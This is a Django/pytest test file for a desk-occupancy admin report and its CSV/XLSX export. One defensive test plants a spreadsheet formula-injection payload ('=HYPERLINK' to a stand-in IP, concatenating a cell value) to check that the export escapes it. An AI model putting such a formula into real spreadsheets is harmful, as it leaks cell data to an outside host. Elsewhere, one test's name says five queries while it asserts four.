"""How the desks were used, over a month made by hand: December 2026 with its holiday, a move, a closure and bookings by the hour."""

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.db.backends.postgresql.psycopg_any import DateRange
from django.urls import reverse
from openpyxl import load_workbook
from tablib import Dataset

from innocenter.privacy.models import AccessEvent
from innocenter.taxonomy.models import Holiday
from institutes.models import Institute
from tests import make
from workspace import occupancy
from workspace.models import Claim, Closure, Lease
from workspace.models.claim import midnight, whole_days

pytestmark = pytest.mark.django_db
FIRST, LAST = date(2026, 12, 1), date(2026, 12, 31)
WORKING = 21  # December 2026 has 23 weekdays; Christmas and one holiday of the staff's table fall on them


@pytest.fixture
def december() -> Lease:
    """Four desks: one leased until a move on the 15th, its second from then on, a third closed for two days, a hot desk used twice."""
    Holiday.objects.create(day=date(2026, 12, 31), name="임시 공휴일")
    first, second, third = (make.desk(code=code) for code in ("B-01", "B-02", "B-03"))
    hot = make.hot_desk(code="H-01")
    institute = make.institute(name="한국전자통신연구원")
    researcher = make.researcher(institute=institute, user=make.user())
    project = make.confirmed_project(company_=make.company(region="busan"), researcher_=researcher)
    lease = make.lease(project_=project, desk_=first, first_day=date(2026, 10, 1))
    lease.claims.cut(midnight(date(2026, 12, 15)))
    Claim.objects.create(room=second, during=whole_days(DateRange(date(2026, 12, 15), lease.cap)), kind="lease", state="live", lease=lease)
    during = whole_days(DateRange(date(2026, 12, 7), date(2026, 12, 9)))
    closure = Closure.objects.create(room=third, during=during, reason="공사", made_by=make.clerk(), made_at=make.NOON)
    Claim.objects.create(room=third, during=during, kind="closure", state="live", closure=closure)
    member = make.member(region="jeju")
    for day, state in ((date(2026, 12, 2), "done"), (date(2026, 12, 3), "checked_in"), (date(2026, 12, 4), "cancelled")):
        make.booking(state, room=hot, during=make.hours("10:00", "12:00", day), company_=member)
    return lease


def test_a_month_by_hand(december: Lease) -> None:
    found = occupancy.report(FIRST, LAST)

    assert len(found.days) == WORKING
    assert {date(2026, 12, 25), date(2026, 12, 31), date(2026, 12, 5)}.isdisjoint(day for day, _line in found.days)
    by_day = {day.day: (line.bookable, line.leased, line.used) for day, line in found.days}
    assert by_day[2] == by_day[3] == (4, 1, 1)
    assert by_day[4] == (4, 1, 0)  # cancelled: nobody came
    assert by_day[7] == by_day[8] == (3, 1, 0)  # one desk is closed
    assert by_day[14] == by_day[15] == (4, 1, 0)  # the move: neither twice nor not at all
    total = found.total
    assert (total.bookable, total.leased, total.used) == (4 * WORKING - 2, WORKING, 2)


def test_it_is_told_apart_by_region_membership_and_institute(december: Lease) -> None:
    found = occupancy.report(FIRST, LAST)

    def numbers(lines: list[occupancy.Line]) -> dict[str, tuple[int, int]]:
        return {line.name: (line.leased, line.used) for line in lines}

    assert numbers(found.regions) == {"부산": (WORKING, 0), "제주": (0, 2)}
    assert numbers(found.tiers) == {"입주기업 회원": (WORKING, 0), "수도권 밖 회원": (0, 2)}
    assert numbers(found.institutes) == {"한국전자통신연구원": (WORKING, 0), "협력과제 없음": (0, 2)}
    for lines in (found.regions, found.tiers, found.institutes):
        assert (sum(line.leased for line in lines), sum(line.used for line in lines)) == (found.total.leased, found.total.used)


def test_days_before_the_lease_and_after_its_end_do_not_count(december: Lease) -> None:
    assert occupancy.report(date(2026, 9, 1), date(2026, 9, 30)).total.leased == 0
    december.claims.cut(midnight(date(2026, 12, 21)))
    assert occupancy.report(date(2026, 12, 21), LAST).total.leased == 0


def report_page(client: Any, **query: Any) -> Any:
    return client.get(reverse("admin:workspace_occupancy"), {"first": FIRST, "last": LAST, **query})


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_file_holds_what_the_page_shows_and_is_taken_for_a_reason(december: Lease, kind: str) -> None:
    clerk = make.clerk()
    client = make.signed_in(clerk)
    page = report_page(client)
    rows = [[title, *row] for title, _heads, rows in page.context["tables"] for row in rows]

    answer = client.get(
        reverse("admin:workspace_occupancy_export"), {"first": FIRST, "last": LAST, "kind": kind, "reason": "운영위원회 보고"}
    )

    assert answer["Content-Disposition"] == f'attachment; filename="occupancy-20261201-20261231.{kind}"'
    if kind == "csv":
        held = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))[1:]
    else:
        held = [list(row) for row in Dataset().load(answer.content, format="xlsx")]
    told = [[str(value) for value in row if value not in ("", None)] for row in held]
    assert told == [[str(value) for value in row if value not in ("", None)] for row in rows]
    text = page.content.decode()
    for row in rows:
        for value in row:
            assert str(value) in text
    event = AccessEvent.objects.get(actor=clerk, action="export")
    assert event.reason == "운영위원회 보고"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_name_that_begins_as_a_formula_stays_a_name(december: Lease, kind: str) -> None:
    wicked = '=HYPERLINK("http://192.0.2.1/"&B2)'
    Institute.objects.filter(name="한국전자통신연구원").update(name=wicked)
    query = {"first": FIRST, "last": LAST, "kind": kind, "reason": "보고"}
    answer = make.signed_in(make.clerk()).get(reverse("admin:workspace_occupancy_export"), query)
    if kind == "csv":
        cells = [value for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for value in row]
        assert [value for value in cells if value.startswith(("=", "+", "-", "@"))] == []
    else:
        cells = [cell.value for row in load_workbook(io.BytesIO(answer.content)).active for cell in row if cell.data_type != "n"]
        kinds = {cell.data_type for row in load_workbook(io.BytesIO(answer.content)).active for cell in row}
        assert "f" not in kinds
    assert f"'{wicked}" in cells


def test_without_a_reason_there_is_no_file(december: Lease) -> None:
    client = make.signed_in(make.clerk())
    answer = client.get(reverse("admin:workspace_occupancy_export"), {"first": FIRST, "last": LAST, "kind": "csv"})
    assert "errornote" in answer.content.decode()
    assert not AccessEvent.objects.filter(action="export").exists()


@pytest.mark.parametrize("query", [{"first": "x"}, {"first": "2026-12-31", "last": "2026-12-01"}, {"last": "2999-01-01"}])
def test_a_wrong_period_is_told(query: dict[str, str]) -> None:
    answer = report_page(make.signed_in(make.clerk()), **query)
    assert answer.status_code == 200
    assert "errornote" in answer.content.decode()


def test_who_may_read_it() -> None:
    for name in ("admin:workspace_occupancy", "admin:workspace_occupancy_export"):
        for outsider in (make.user(), make.staff("programme")):
            assert make.signed_in(outsider).get(reverse(name)).status_code in {302, 403}
        assert make.signed_in(make.head()).get(reverse(name)).status_code == 200
    assert reverse("admin:workspace_occupancy") in make.signed_in(make.clerk()).get("/admin/workspace/room/").content.decode()


@pytest.mark.parametrize("rows", [1, 3])
def test_the_report_costs_five_statements_however_much_there_is(rows: int, django_assert_num_queries: Any) -> None:
    for _ in range(rows):
        make.lease(first_day=date(2026, 10, 1))
        make.booking("done", room=make.hot_desk())
    with django_assert_num_queries(4):
        assert occupancy.report(date(2026, 11, 1), LAST).total.used == rows
